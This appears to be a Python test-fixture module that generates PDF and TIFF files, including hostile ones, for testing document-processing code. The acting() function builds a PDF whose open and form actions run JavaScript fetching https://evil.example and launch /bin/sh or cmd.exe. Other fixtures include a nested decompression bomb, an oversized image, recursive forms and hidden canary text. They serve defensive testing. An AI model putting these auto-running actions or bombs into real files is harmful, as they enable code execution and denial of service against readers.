"""PDF and TIFF files for tests, made here: with text, scanned, hostile. And points of a drawn page, to look at."""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

FAXES = Path(__file__).resolve().parent.parent / "golden" / "pages"  # written by libtiff
A4 = (595, 842)


def pdf(*objects: bytes, root: bytes = b"", trailer: bytes = b"") -> bytes:
    """A PDF file of numbered objects; 1 is the catalogue, which says ``root`` as well."""
    body, places = b"%PDF-1.7\n", []
    for number, one in enumerate((b"<</Type/Catalog/Pages 2 0 R " + root + b">>", *objects), 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(places) + 1
    end = b"xref\n0 %d\n0000000000 65535 f \n%strailer <</Size %d/Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n"
    return body + end % (size, rows, size, trailer, len(body))


def stream(data: bytes, about: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (about, len(data), data)


def text(*pages: str, root: bytes = b"", annotations: bytes = b"", box: tuple[int, int] = A4) -> bytes:
    """One line of text a page, in a font that every reader has."""
    first = 4
    kids = b" ".join(b"%d 0 R" % (first + 2 * at) for at in range(len(pages)))
    objects = [
        b"<</Type/Pages/Kids[%s]/Count %d/MediaBox[0 0 %d %d]>>" % (kids, len(pages), *box),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ]
    for at, line in enumerate(pages):
        page = b"<</Type/Page/Parent 2 0 R/Resources<</Font<</F 3 0 R>>>>/Contents %d 0 R%s>>"
        objects.append(page % (first + 2 * at + 1, annotations))
        drawn = b"BT /F 24 Tf 60 %d Td (%s) Tj ET" % (box[1] - 90, line.encode("cp1252"))
        objects.append(stream(drawn if line else b""))
    return pdf(*objects, root=root)


def scanned(count: int = 1, *, colour: bool = False) -> bytes:
    """Pages of nothing but a picture: grey stripes of writing and a black bar above; or with a red stamp."""
    wide, high = 300, 420
    rows = bytearray()
    for y in range(high):
        for x in range(wide):
            ink = (20 <= y < 40 and 20 <= x < 200) or (60 <= y < 380 and y % 12 < 3 and 20 <= x < 270 and x * y % 7)
            stamp = colour and 300 <= y < 360 and 180 <= x < 260
            rows += bytes((200, 0, 0)) if stamp else bytes((20, 20, 20)) if ink else bytes((250, 250, 250))
    about = b"/Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent 8/ColorSpace/DeviceRGB" % (wide, high)
    kids = b" ".join(b"%d 0 R" % (5 + at) for at in range(count))
    page = b"<</Type/Page/Parent 2 0 R/Resources<</XObject<</I 3 0 R>>>>/Contents 4 0 R>>"
    return pdf(
        b"<</Type/Pages/Kids[%s]/Count %d/MediaBox[0 0 595 842]>>" % (kids, count),
        stream(zlib.compress(bytes(rows)), about + b"/Filter/FlateDecode"),
        stream(b"q 595 0 0 842 0 0 cm /I Do Q"),
        *[page] * count,
    )


SCRIPT = (
    b"<</S/JavaScript/JS(app.launchURL\\('https://evil.example/js'\\); this.getURL\\('https://evil.example/u'\\))>>"
)
LAUNCH = b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>/NewWindow true>>"
WEB = b"<</S/URI/URI(https://evil.example/uri)>>"


def acting() -> bytes:
    """A document that would run a script, start a program, fetch an address: when opened, shown or touched."""
    root = b"/OpenAction %s/AA<</WC %s/DS %s>>/Names<</JavaScript<</Names[(a)%s]>>>>" % (SCRIPT, LAUNCH, WEB, SCRIPT)
    widget = (
        b"/AA<</O %s/C %s>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A %s>>"
        b"<</Type/Annot/Subtype/Widget/FT/Tx/T(x)/Rect[60 600 300 640]/AA<</F %s/K %s/C %s>>/A %s>>"
        b"<</Type/Annot/Subtype/Screen/Rect[0 0 9 9]/A<</S/Rendition/JS(app.alert\\(1\\))/OP 0>>>>]"
    ) % (SCRIPT, LAUNCH, WEB, SCRIPT, SCRIPT, SCRIPT, LAUNCH)
    return text("Open me", root=root + b"/AcroForm<</Fields[]/NeedAppearances true>>", annotations=widget)


def stamped() -> bytes:
    """An empty page with two annotations that have a look of their own: a red stamp, and a filled field."""
    look = b"<</Type/XObject/Subtype/Form/BBox[0 0 200 100]"
    page = b"<</Type/Page/Parent 2 0 R/Contents 4 0 R/Annots[%s%s]>>" % (
        b"<</Type/Annot/Subtype/Stamp/F 4/Rect[300 100 500 200]/AP<</N 5 0 R>>>>",
        b"<</Type/Annot/Subtype/Widget/FT/Tx/F 4/T(x)/Rect[60 600 260 700]/AP<</N 6 0 R>>>>",
    )
    red, black = (stream(b"%s rg 0 0 200 100 re f" % one, look[2:]) for one in (b"1 0 0", b"0 0 0"))
    pages = b"<</Type/Pages/Kids[3 0 R]/Count 1/MediaBox[0 0 595 842]>>"
    return pdf(pages, page, stream(b""), red, black, root=b"/AcroForm<</Fields[]>>")


def bomb() -> bytes:
    """A page whose content is 2 GiB of operators when unpacked, three times over."""
    packer = zlib.compressobj(9)
    part = b"0 0 m 595 842 l S\n" * 58_254
    inner = b"".join(packer.compress(part) for _ in range(64)) + packer.flush()
    twice = zlib.compress(inner, 9)
    page = b"<</Type/Page/Parent 2 0 R/Contents[4 0 R 4 0 R 4 0 R]>>"
    pages = b"<</Type/Pages/Kids[3 0 R]/Count 1/MediaBox[0 0 595 842]>>"
    return pdf(pages, page, stream(twice, b"/Filter[/FlateDecode/FlateDecode]"))


def huge_picture() -> bytes:
    """A picture that says it has 60,000 points a side, in few bytes."""
    about = b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceRGB"
    page = b"<</Type/Page/Parent 2 0 R/Resources<</XObject<</I 4 0 R>>>>/Contents 5 0 R>>"
    pages = b"<</Type/Pages/Kids[3 0 R]/Count 1/MediaBox[0 0 595 842]>>"
    packed = stream(zlib.compress(bytes(40_000_000), 9), about + b"/Filter/FlateDecode")
    return pdf(pages, page, packed, stream(b"q 595 0 0 842 0 0 cm /I Do Q"))


def locked() -> bytes:
    """Encrypted with a password that is not the empty one (its check sums fit no password at all)."""
    about = b"<</Filter/Standard/V 1/R 2/O<%s>/U<%s>/P -4>>" % (b"11" * 32, b"22" * 32)
    return pdf(b"<</Type/Pages/Kids[]/Count 0>>", about, trailer=b"/Encrypt 3 0 R/ID[<00><00>]")


def endless() -> bytes:
    """A form that shows itself, ten times, each of which does."""
    page = b"<</Type/Page/Parent 2 0 R/Resources<</XObject<</A 4 0 R>>>>/Contents 5 0 R>>"
    again = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</A 4 0 R>>>>"
    pages = b"<</Type/Pages/Kids[3 0 R]/Count 1/MediaBox[0 0 595 842]>>"
    return pdf(pages, page, stream(b"/A Do " * 10, again), stream(b"/A Do"))


def looping() -> bytes:
    """A list of pages that holds itself, and says that it has two thousand million."""
    return pdf(b"<</Type/Pages/Kids[2 0 R]/Count 2000000000/MediaBox[0 0 595 842]>>")


def tiff(tags: dict[int, tuple[int, ...]], strip: bytes = b"", *, order: str = "<", after: int = 0) -> bytes:
    """A TIFF file of one strip and one page, with ``tags`` besides."""
    start = 8
    whole = {273: (start,), 279: (len(strip),)} | tags
    table = start + len(strip) + len(strip) % 2
    rows, far = b"", b""
    place = table + 2 + 12 * len(whole) + 4
    for tag, values in sorted(whole.items()):
        kind, code = (3, "H") if max(values) < 65536 else (4, "I")
        data = struct.pack(f"{order}{len(values)}{code}", *values)
        if len(data) > 4:
            field, far = struct.pack(f"{order}I", place + len(far)), far + data
        else:
            field = data.ljust(4, b"\0")
        rows += struct.pack(f"{order}HHI", tag, kind, len(values)) + field
    head = (b"II*\0" if order == "<" else b"MM\0*") + struct.pack(f"{order}I", table)
    count, end = struct.pack(f"{order}H", len(whole)), struct.pack(f"{order}I", after)
    return head + strip + b"\0" * (len(strip) % 2) + count + rows + end + far


HIDDEN = (
    *("CANARYLAYER", "CANARYWHITE", "CANARYINVISIBLE", "CANARYINFO", "CANARYXMP", "CANARYATTACHED", "CANARYHIDDEN"),
    *("CANARYREMARK", "CANARYREVISION", "CANARYTHUMB", "CANARYCOMMENT", "CANARYTITLE"),
)


def hiding(covered: str = "CANARYLAYER") -> bytes:
    """A PDF file that says a line to show and a line to cover, and hides a word wherever such files can."""
    drawn = (
        b"BT /F 24 Tf 60 750 Td (SHOWN) Tj ET\nBT /F 24 Tf 60 700 Td (%s) Tj ET\n"
        b"BT 1 1 1 rg /F 24 Tf 60 650 Td (CANARYWHITE) Tj ET\nBT 3 Tr /F 24 Tf 60 600 Td (CANARYINVISIBLE) Tj ET\n"
        b"/OC /L BDC BT 0 Tr 0 0 0 rg /F 24 Tf 60 550 Td (CANARYHIDDEN) Tj ET EMC\n%%CANARYCOMMENT"
    ) % covered.encode()
    page = (
        b"<</Type/Page/Parent 2 0 R/Resources<</Font<</F 3 0 R>>/Properties<</L 8 0 R>>>>/Contents 5 0 R"
        b"/Annots[<</Type/Annot/Subtype/Text/Rect[0 0 9 9]/F 2/Contents(CANARYREMARK)>>]/Thumb 9 0 R>>"
    )
    thumb = b"/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray/Note(CANARYTHUMB)"
    whole = pdf(
        b"<</Type/Pages/Kids[4 0 R]/Count 1/MediaBox[0 0 595 842]>>",
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        page,
        stream(drawn),
        b"<</Author(CANARYINFO)/Title(CANARYTITLE)/CreationDate(D:20261103120000Z)>>",
        stream(b"CANARYATTACHED", b"/Type/EmbeddedFile"),
        b"<</Type/OCG/Name(CANARYHIDDEN)>>",
        stream(b"\xff", thumb),
        stream(b"<x>CANARYXMP</x>", b"/Type/Metadata/Subtype/XML"),
        root=b"/Metadata 10 0 R/OCProperties<</OCGs[8 0 R]/D<</OFF[8 0 R]>>>>"
        b"/Names<</EmbeddedFiles<</Names[(c)<</Type/Filespec/F(c)/EF<</F 7 0 R>>>>]>>>>",
        trailer=b"/Info 6 0 R",
    )
    return whole + b"%CANARYREVISION\n"


class Points:
    """A PNG file of ours, taken apart: 16 greys or 216 colours."""

    def __init__(self, data: bytes) -> None:
        assert data.startswith(b"\x89PNG\r\n\x1a\n")
        chunks, at = {}, 8
        while at < len(data):
            (length,) = struct.unpack_from(">I", data, at)
            kind, body = data[at + 4 : at + 8], data[at + 8 : at + 8 + length]
            assert struct.unpack_from(">I", data, at + 8 + length) == (zlib.crc32(kind + body),)
            chunks[kind] = body
            at += 12 + length
        self.width, self.height, self.depth, self.kind = struct.unpack_from(">IIBB", chunks[b"IHDR"])
        self.palette = chunks.get(b"PLTE", b"")
        self.rows = zlib.decompress(chunks[b"IDAT"])
        self.stride = 1 + self.width * self.depth // 8
        assert len(self.rows) == self.stride * self.height

    def at(self, across: float, down: float) -> tuple[int, int, int]:
        """Red, green and blue at a place, from 0 to 1."""
        x, y = int(across * self.width), int(down * self.height)
        row = self.rows[y * self.stride + 1 : (y + 1) * self.stride]
        if self.kind == 3:
            red, green, blue = self.palette[3 * row[x] : 3 * row[x] + 3]
            return red, green, blue
        level = (row[x // 2] >> (0 if x % 2 else 4) & 15) * 17
        return level, level, level

    def is_blank(self) -> bool:
        return all(set(self.rows[at * self.stride + 1 : (at + 1) * self.stride]) == {255} for at in range(self.height))
